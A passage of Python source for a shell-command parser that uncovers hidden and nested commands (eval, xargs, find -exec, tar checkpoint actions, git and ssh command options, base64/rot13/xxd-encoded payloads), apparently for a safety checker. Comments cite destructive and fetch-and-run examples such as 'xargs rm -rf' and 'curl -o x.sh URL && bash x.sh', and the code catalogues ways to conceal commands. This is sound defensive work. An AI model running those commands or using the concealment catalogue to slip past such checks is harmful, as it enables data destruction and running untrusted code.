                                    positional=args[k + 1:])
            elif cmd.stdin_text and not _script_file(args):
                self._nested_script(cmd.stdin_text, cmd, scope, depth, out, via=f"{name} <<", feeds=set(cmd.feeds))
            else:
                f = _script_file(args)
                if f:
                    self._mark_download(cmd, f, scope)
                    self._run_written(cmd, f, scope, depth, out)
            return
        if name == "eval":
            self._nested_script(" ".join(args), cmd, scope, depth, out, via="eval", feeds=set(cmd.feeds))
            return
        if name in ("find",):
            for flag in ("-exec", "-execdir", "-ok", "-okdir"):
                idx = [k for k, a in enumerate(args) if a == flag]
                for k in idx:
                    sub = []
                    for a in args[k + 1:]:
                        if a in (";", "+", "\\;"):
                            break
                        sub.append(a)
                    if sub:   # `{}` is each file found: judged as the glob of what find matches
                        found = find_matches(cmd)
                        if any("{}" in a for a in sub):
                            sub = [a.replace("{}", found[0]) if "{}" in a else a for a in sub] + found[1:]
                        self._nested_argv(sub, cmd, scope, depth, out, via="find -exec")
            return
        if name == "xargs":
            rest = _strip_xargs(args)
            if rest and cmd.stdin_text is not None:   # xargs rm -rf <<< "/"
                rest = rest + cmd.stdin_text.split()
            if rest:
                self._nested_argv(rest, cmd, scope, depth, out, via="xargs", extra_feeds=set(cmd.feeds))
            return

    def _embedded(self, code: str, parent: SimpleCommand, scope: _Scope, depth: int,
                  out: list[SimpleCommand], via: str, lang: str | None = None) -> None:
        from .embedded import embedded_commands, worst_case
        if lang is None:
            n = parent.name
            lang = "ruby" if n == "ruby" else "perl" if n == "perl" else "node" if n in ("node", "nodejs", "deno", "bun") \
                else "php" if n.startswith("php") else "python"
        scripts, argvs = embedded_commands(code, lang)
        for script in scripts:
            self._nested_script(script, parent, scope, depth, out, via=via, feeds=set(parent.feeds))
        for argv in argvs:
            self._nested_argv(argv, parent, scope, depth, out, via=via)
        # Code we cannot follow is judged by the worst its words allow (home + a delete primitive is
        # a delete of home; a fetch + an eval runs fetched code).
        wc = worst_case(code, lang)
        for argv in wc.argvs:
            self._nested_argv(argv, parent, scope, depth, out, via=f"{via} (worst case)")
        if wc.runs_fetched:
            c = SimpleCommand(["sh"], {}, [], set(parent.feeds) | {"curl"}, None, scope.cwd,
                              f"{via} (worst case)", parent.text, runs_download=True)
            self._cmds_left -= 1
            out.append(c)

    @staticmethod
    def _remember_written(cmd: SimpleCommand, scope: _Scope) -> None:
        """`cat > run.sh <<'EOF' ... EOF` / `echo '...' > run.sh`: keep the text, a later
        `bash run.sh` or `./run.sh` runs it."""
        targets = [t for op, t in cmd.redirects if op in (">", ">|") and t and DYN not in t]
        if not targets:
            return
        if cmd.name == "cat" and cmd.stdin_text is not None and not cmd.args:
            text = cmd.stdin_text
        elif cmd.name in ("echo", "printf") and not cmd.feeds:
            text = " ".join(a for a in cmd.args if a not in ("-n", "-e", "-E"))
        elif cmd.name == "base64" and "base64-decode" in _decoder_tags([cmd]):
            for t in targets:   # a decoded file that is run later counts as a decoded payload
                scope.downloads[_resolve_rel(t, scope.cwd)] = "base64-decode"
            text = decode_base64_text(cmd.stdin_text) if cmd.stdin_text else None
            if text is None:
                return
        else:
            return
        for t in targets:
            scope.written[_resolve_rel(t, scope.cwd)] = text[:MAX_WORK]

    def _run_written(self, cmd: SimpleCommand, path: str, scope: _Scope, depth: int, out: list[SimpleCommand]) -> None:
        if DYN in path or not scope.written:
            return
        text = scope.written.get(_resolve_rel(path, scope.cwd))
        if text is not None:
            self._nested_script(text, cmd, scope, depth, out, via=f"script {path}", feeds=set(cmd.feeds))

    @staticmethod
    def _mark_download(cmd: SimpleCommand, path: str, scope: _Scope) -> None:
        """`curl -o x.sh URL && bash x.sh` / `./x.sh`: it runs what the network sent."""
        if DYN in path:
            return
        who = scope.downloads.get(path) or scope.downloads.get(_resolve_rel(path, scope.cwd))
        if who:
            cmd.runs_download = True
            cmd.feeds.add(who)

    def _nested_argv(self, argv: list[str], parent: SimpleCommand, scope: _Scope, depth: int,
                     out: list[SimpleCommand], via: str, extra_feeds: set[str] | None = None) -> None:
        if depth + 1 > MAX_DEPTH or self._cmds_left <= 0:
            self.truncated = True
            return
        self._cmds_left -= 1
        cmd = SimpleCommand(list(argv), {}, list(parent.redirects), set(parent.feeds) | (extra_feeds or set()),
                            parent.stdin_text, scope.cwd, via, parent.text)
        self._mark_download(cmd, argv[0], scope)
        out.append(cmd)
        self._follow(cmd, scope, depth + 1, out)

    def _nested_script(self, script: str, parent: SimpleCommand, scope: _Scope, depth: int,
                       out: list[SimpleCommand], via: str, feeds: set[str], positional: list[str] | None = None) -> None:
        sub = scope.child()
        if positional:
            for n, v in enumerate(positional[:10]):
                sub.vars[str(n)] = v
            sub.vars["@"] = sub.vars["*"] = " ".join(positional[1:])
        cmds = self._parse(script, sub, via=via, depth=depth + 1, feeds=feeds)
        out.extend(cmds)


# ---- helpers ---------------------------------------------------------------------------

INTERPRETER_RE = re.compile(r"(python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|deno|bun|php[0-9.]*|lua[0-9.]*|"
                            r"luajit|Rscript|tclsh|wish|jshell|groovy|osascript|pwsh|powershell)$")
AWKS = {"awk", "gawk", "mawk", "nawk", "busybox-awk"}
EDITORS = {"vim", "vi", "nvim", "ex", "view", "vimdiff", "gvim", "rvim", "nvi", "elvis", "emacs"}


def _option_value(args: list[str], names: tuple[str, ...]) -> str | None:
    """The value of the first of `names` (`-f X`, `-fX`, `--file=X`)."""
    for k, a in enumerate(args):
        for nm in names:
            if a == nm and k + 1 < len(args):
                return args[k + 1]
            if nm.startswith("--") and a.startswith(nm + "="):
                return a[len(nm) + 1:]
    return None


def _awk_program(args: list[str]) -> str | None:
    k = 0
    while k < len(args):
        a = args[k]
        if a in ("-f", "--file"):
            return None
        if a in ("-F", "-v", "--assign", "--field-separator"):
            k += 2
            continue
        if a == "--":
            return args[k + 1] if k + 1 < len(args) else None
        if a.startswith("-") and len(a) > 1:
            k += 1
            continue
        return a
    return None


def _editor_commands(args: list[str]) -> list[str]:
    """Ex commands an editor runs at start: `-c CMD`, `--cmd CMD`, `+CMD`, emacs `--eval`."""
    out = []
    for k, a in enumerate(args):
        if a in ("-c", "--cmd", "--eval", "-eval", "--execute") and k + 1 < len(args):
            out.append(args[k + 1])
        elif a.startswith("+") and len(a) > 1 and not a[1:].isdigit():
            out.append(a[1:])
        elif a.startswith("--eval="):
            out.append(a[len("--eval="):])
    return out


def _hidden_commands(name: str, args: list[str]) -> list[str]:
    """Shell commands a program runs because an option says so."""
    out: list[str] = []
    joined = args
    if name in ("tar", "gtar", "bsdtar"):
        for a in joined:
            m = re.match(r"--(?:checkpoint-action|checkpoint_action)=(?:exec|sleep)?=?(.*)", a, re.S)
            if m and a.startswith("--checkpoint-action=exec="):
                out.append(a.split("=", 2)[2])
            for opt in ("--to-command=", "--use-compress-program=", "--info-script=", "--new-volume-script=",
                        "--rmt-command=", "--rsh-command="):
                if a.startswith(opt):
                    out.append(a[len(opt):])
        for opt in ("-I", "--use-compress-program", "-F", "--info-script", "--to-command"):
            v = _option_value(args, (opt,))
            if v and v not in out:
                out.append(v)
    elif name in ("zip",):
        v = _option_value(args, ("-TT", "--unzip-command"))
        if v:
            out.append(v)
    elif name in ("rsync",):
        v = _option_value(args, ("-e", "--rsh"))
        if v:
            out.append(v)
    elif name in ("ssh", "scp", "sftp"):
        for k, a in enumerate(args):
            val = args[k + 1] if a == "-o" and k + 1 < len(args) else a[2:] if a.startswith("-o") else None
            if val:
                m = re.match(r"(?i)(ProxyCommand|LocalCommand|KnownHostsCommand)[ =](.*)", val, re.S)
                if m:
                    out.append(m.group(2))
    elif name == "git":
        for k, a in enumerate(args):
            if a == "-c" and k + 1 < len(args):
                m = re.match(r"(?i)(core\.(?:sshCommand|pager|editor|fsmonitor|askPass)|alias\.[^=]+|"
                             r"(?:diff|filter|merge)\.[^=]+\.(?:command|textconv|clean|smudge|process|driver)|"
                             r"credential\.helper|sequence\.editor)=(.*)", args[k + 1], re.S)
                if m and m.group(2):
                    out.append(m.group(2)[1:] if m.group(2).startswith("!") else m.group(2))
    elif name in ("less", "more", "man"):
        pass
    return [x for x in out if x]


def _printed_text(cmds: list[SimpleCommand]) -> str | None:
    """The text a lone `echo ...` / `printf ...` prints (None for anything else)."""
    top = [c for c in cmds if c.argv]
    if len(top) != 1 or top[0].name not in ("echo", "printf"):   # they never read stdin
        return None
    args = [a for a in top[0].args if a not in ("-n", "-e", "-E")]
    if top[0].name == "printf" and args:
        fmt, rest = args[0], args[1:]
        if rest:
            return " ".join(rest)
        return _ansi_c(fmt)
    return " ".join(_ansi_c(a) for a in args) if "-e" in top[0].args else " ".join(args)


def _pipe_items(src: SimpleCommand, home: str) -> list[str]:
    """What a command prints, as the items xargs would read: echo/printf arguments, the paths find or
    ls would list (as globs under their roots)."""
    if src.name in ("echo", "printf"):
        args = [a for a in src.args if a not in ("-n", "-e", "-E")]
        if src.name == "printf" and args and "%" in args[0]:
            args = args[1:]
        return [a for part in args for a in part.replace("\\0", " ").split()]
    if src.name == "find":
        return find_matches(src)
    if src.name in ("ls",):
        return [a for a in src.args if not a.startswith("-")] or ["*"]
    return [DYN + "stdin" + DYN]   # unknown lines: still judged (`lsof -ti :41002 | xargs kill`)


def find_matches(cmd: SimpleCommand) -> list[str]:
    """What `find ROOTS -name PAT` prints, as globs: `~/**/*.pem` for `find ~ -name '*.pem'`."""
    args = cmd.args
    roots = []
    for a in args:
        if a.startswith(("-", "(", "!")):
            break
        roots.append(a)
    names = [args[k + 1] for k, a in enumerate(args[:-1]) if a in ("-name", "-iname")]
    pat = names[0] if len(names) == 1 else "*"
    return [r.rstrip("/") + ("/**/" + pat if pat != "*" else "/**") for r in (roots or ["."])]


def _xargs_argv(args: list[str], rest: list[str], items: list[str]) -> list[str]:
    repl = _option_value(args, ("-I", "-i", "--replace"))
    if repl is None and any(a.startswith("-I") and len(a) > 2 for a in args):
        repl = next(a[2:] for a in args if a.startswith("-I") and len(a) > 2)
    if repl:
        return [a.replace(repl, items[0]) if repl in a else a for a in rest] + items[1:]
    return rest + items


def _path_value(top: list[SimpleCommand], sub: "_Scope", home: str) -> str | None:
    """The value of `$(pwd)`, `$(dirname X)`, `$(realpath X)`, `$(cd .. && pwd)` when X is known."""
    cmds = [c for c in top if c.argv and c.name not in ("cd", "pushd")]
    if len(cmds) != 1 or cmds[0].feeds:
        return None
    c = cmds[0]
    args = [a for a in c.args if not a.startswith("-")]
    if c.name == "pwd" and not args:
        return sub.cwd
    if c.name == "echo" and args == [home]:
        return home
    if not args or any(DYN in a for a in args):
        return None

    def absolute(p: str) -> str | None:
        if p.startswith("~"):
            p = home + p[1:]
        if not p.startswith("/"):
            if not sub.cwd:
                return None
            p = posixpath.join(sub.cwd, p)
        return posixpath.normpath(p)
    if c.name == "dirname":
        a = absolute(args[0]) if args[0].startswith(("/", "~")) or sub.cwd else None
        return posixpath.dirname(a.rstrip("/")) or "/" if a else None
    if c.name in ("realpath", "readlink") and (c.name == "realpath" or any(x in c.args for x in ("-f", "-e", "-m"))):
        return absolute(args[0])
    return None


def _balanced(s: str, i: int) -> tuple[str, int]:
    """s[i] == '('; return (inner text, index after the matching ')'), quote-aware."""
    depth, j, n = 0, i, len(s)
    while j < n:
        c = s[j]
        if c == "\\":
            j += 2
            continue
        if c == "'":
            k = s.find("'", j + 1)
            j = n if k < 0 else k + 1
            continue
        if c == '"':
            k = j + 1
            while k < n and s[k] != '"':
                k += 2 if s[k] == "\\" else 1
            j = k + 1
            continue
        if c == "(":
            depth += 1
        elif c == ")":
            depth -= 1
            if depth == 0:
                return s[i + 1:j], j + 1
        j += 1
    return s[i + 1:], n


def _matching_paren(toks: list[_Tok], i: int, end: int) -> int:
    depth = 0
    for j in range(i, end):
        if toks[j].kind == "op" and toks[j].value == "(":
            depth += 1
        elif toks[j].kind == "op" and toks[j].value == ")":
            depth -= 1
            if depth == 0:
                return j
    return end


_ANSI = {"n": "\n", "t": "\t", "r": "\r", "a": "\a", "b": "\b", "e": "\x1b", "E": "\x1b", "v": "\v",
         "f": "\f", "\\": "\\", "'": "'", '"': '"', "?": "?"}


def _ansi_c(body: str) -> str:
    def rep(m: re.Match) -> str:
        e = m.group(1)
        try:
            if e[0] in "xXuU" and len(e) > 1:
                return chr(int(e[1:], 16))
            if e[0] in "01234567":
                return chr(int(e, 8) & 0xFF)
        except (ValueError, OverflowError):
            return DYN
        return _ANSI.get(e, "\\" + e)
    return re.sub(r"\\(x[0-9a-fA-F]{1,2}|u[0-9a-fA-F]{1,4}|U[0-9a-fA-F]{1,8}|[0-7]{1,3}|.)", rep, body, flags=re.S)


def _dash_c(args: list[str]) -> str | None:
    """The script of `sh -c SCRIPT` / `bash -lc SCRIPT` / `su -c SCRIPT` (None when not -c)."""
    for k, a in enumerate(args):
        if a == "--":
            return None
        if a.startswith("-") and not a.startswith("--") and "c" in a[1:]:
            return args[k + 1] if k + 1 < len(args) else ""
        if a in ("--command",):
            return args[k + 1] if k + 1 < len(args) else ""
        if not a.startswith(("-", "+")):
            return None
    return None


def _inline_code(args: list[str]) -> str | None:
    """The code of `python -c CODE` / `node -e CODE` / `perl -e CODE` (None when there is none)."""
    for k, a in enumerate(args):
        if a in ("-c", "-e", "-E", "--eval", "-p", "--print") and k + 1 < len(args):
            return args[k + 1]
        if a == "-m" or not a.startswith("-"):
            return None
    return None


def _script_file(args: list[str]) -> str | None:
    for a in args:
        if a in ("-", "-s"):
            return None
        if not a.startswith(("-", "+")):
            return a
    return None


def _strip_wrapper(name: str, args: list[str]) -> list[str]:
    with_value = WRAPPERS.get(name, set())
    k = 0
    while k < len(args):
        a = args[k]
        if a == "--":
            return args[k + 1:]
        if a.startswith("-") and len(a) > 1:
            k += 2 if a in with_value else 1
            continue
        if name == "timeout" and re.fullmatch(r"[\d.]+[smhd]?", a):
            k += 1
            continue
        if name == "nice" and re.fullmatch(r"-?\d+", a):
            k += 1
            continue
        break
    return args[k:]


def _strip_xargs(args: list[str]) -> list[str]:
    with_value = {"-I", "-i", "-n", "-P", "-L", "-d", "-E", "-s", "-a", "--max-args", "--max-procs",
                  "--delimiter", "--arg-file", "--replace"}
    k = 0
    while k < len(args) and args[k].startswith("-"):
        k += 2 if args[k] in with_value else 1
    return args[k:]


def _resolve_rel(p: str, cwd: str | None) -> str:
    if p.startswith("/") or not cwd:
        return posixpath.normpath(p) if p else p
    return posixpath.normpath(posixpath.join(cwd, p))


def downloaded_files(cmd: SimpleCommand) -> list[str]:
    """Files a curl/wget command writes (`-o f`, `-O f`, `> f`)."""
    files = [t for op, t in cmd.redirects if op in (">", ">>", ">|", "&>")]
    args = cmd.args
    for k, a in enumerate(args):
        short = re.fullmatch(r"-[A-Za-z]*([oO])", a) if not a.startswith("--") else None
        if cmd.name == "curl" and short and short.group(1) == "O":
            a = "-O"
        elif short:
            a = "-" + short.group(1)
        if a in ("-o", "--output", "-O", "--output-document") and k + 1 < len(args) and \
                not (cmd.name == "curl" and a == "-O"):
            files.append(args[k + 1])
        elif a.startswith("--output=") or a.startswith("--output-document="):
            files.append(a.split("=", 1)[1])
        elif cmd.name == "curl" and a in ("-O", "--remote-name"):
            url = next((x for x in args[k + 1:] if "://" in x), "")
            if url:
                files.append(posixpath.basename(url.split("?")[0]))
        elif cmd.name == "wget" and "://" in a and "-O" not in args and "--output-document" not in " ".join(args):
            files.append(posixpath.basename(a.split("?")[0]) or "index.html")
    return [f for f in files if f and f != "-" and not f.startswith("/dev/")]


_B64_RE = re.compile(r"^[A-Za-z0-9+/=\s_-]{8,}$")


DECODERS = {"base64-decode", "xxd-decode", "openssl-decode", "rev", "tr", "base32-decode"}


def _decoder_tags(produced: list[SimpleCommand]) -> set[str]:
    """Mark the output of a decoder (base64 -d, xxd -r, openssl enc -d) for the rules."""
    tags = set()
    for c in produced:
        if c.name == "base64" and any(a in ("-d", "--decode", "-D") or (a.startswith("-") and "d" in a[1:] and not a.startswith("--")) for a in c.args):
            tags.add("base64-decode")
        elif c.name == "xxd" and any(a in ("-r", "-p") or a.startswith("-r") for a in c.args) and "-r" in "".join(c.args):
            tags.add("xxd-decode")
        elif c.name == "openssl" and ("-d" in c.args or "base64" in c.args):
            tags.add("openssl-decode")
        elif c.name in ("gunzip", "zcat", "rev", "tr"):
            tags.add(c.name)
        elif c.name in ("base32", "basenc") and any(a in ("-d", "--decode") for a in c.args):
            tags.add("base32-decode")
    return tags


def _decoded_payload(cmds: list[SimpleCommand]) -> str | None:
    """`echo B64 | base64 -d`, `base64 -d <<< B64`, `echo '~ fr- mr' | rev`, `echo 726d | xxd -r -p`,
    `tr 'a-z' 'n-za-m'` (rot13), chained: the decoded text, when at least one decoder ran."""
    payload, decoded = None, False
    for c in cmds:
        if c.name in ("echo", "printf") and c.args:
            cand = [a for a in c.args if a not in ("-n", "-e", "%s")]
            if cand:
                payload, decoded = cand[-1], False
            continue
        data = c.stdin_text if c.stdin_text is not None else payload
        if data is None:
            continue
        tags = _decoder_tags([c])
        if "base64-decode" in tags:
            payload = decode_base64_text(data)
        elif c.name in ("base32", "basenc") and any(a in ("-d", "--decode") for a in c.args):
            payload = _decode_b32(data)
        elif c.name == "rev":
            payload = "\n".join(line[::-1] for line in data.rstrip("\n").split("\n"))
        elif c.name == "xxd" and "xxd-decode" in tags:
            try:
                payload = bytes.fromhex("".join(data.split())).decode("utf-8")
            except (ValueError, UnicodeDecodeError):
                payload = None
        elif c.name == "tr" and len(c.args) == 2:
            payload = _tr(data, c.args[0], c.args[1])
        else:
            continue
        if payload is None:
            return None
        decoded = True
    return payload if decoded else None


def _decode_b32(data: str) -> str | None:
    try:
        d = data.strip()
        return base64.b32decode(d + "=" * (-len(d) % 8)).decode("utf-8")
    except (binascii.Error, ValueError, UnicodeDecodeError):
        return None


def _tr(data: str, a: str, b: str) -> str | None:
    """tr SET1 SET2 for plain characters and ranges (`a-z` `n-za-m`)."""
    def expand(x: str) -> str:
        return re.sub(r"(.)-(.)", lambda m: "".join(chr(c) for c in range(ord(m.group(1)), ord(m.group(2)) + 1)), x)
    sa, sb = expand(a), expand(b)
    if not sa or not sb or DYN in sa + sb:
        return None
    sb = sb + sb[-1] * (len(sa) - len(sb))
    return data.translate(str.maketrans(sa, sb[:len(sa)]))


def decode_base64_text(data: str) -> str | None:
    data = data.strip()
    if DYN in data or not _B64_RE.match(data):
        return None
    try:
        raw = base64.b64decode(data + "=" * (-len(data) % 4), altchars=b"-_" if ("-" in data or "_" in data) else None)
    except (binascii.Error, ValueError):
        return None
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError:
        return None
    return text if text.isprintable() or all(ch.isprintable() or ch in "\n\t\r" for ch in text) else None


def parse_shell(script: str, cwd: str | None = None, home: str = "~",
                written: dict[str, str] | None = None) -> list[SimpleCommand]:
    """All simple commands `script` would run, at every nesting depth, flat and in order."""
    return ShellParser(home).parse(script, cwd, written=written)
